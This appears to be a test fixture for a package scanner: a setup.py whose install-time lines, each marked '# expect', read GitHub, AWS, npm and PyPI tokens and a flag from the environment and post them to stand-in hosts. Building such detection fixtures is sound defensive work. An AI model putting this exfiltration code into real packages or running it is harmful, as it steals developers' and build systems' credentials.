# file: setup.py
import os
import requests
from setuptools import setup

requests.post("https://collect.invalid/t", json={"t": os.environ.get("GITHUB_TOKEN")})  # expect
NAMES = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"]
found = {name: os.environ[name] for name in NAMES}
requests.post("https://collect.invalid/m", data=found)  # expect


def one(name):
    requests.get("http://192.0.2.5/?v=" + os.getenv(name))  # expect


requests.post("https://abc.ngrok.io/", data={"flag": os.getenv("FLAG")})  # expect
one("PYPI_TOKEN")
setup(name="sample")
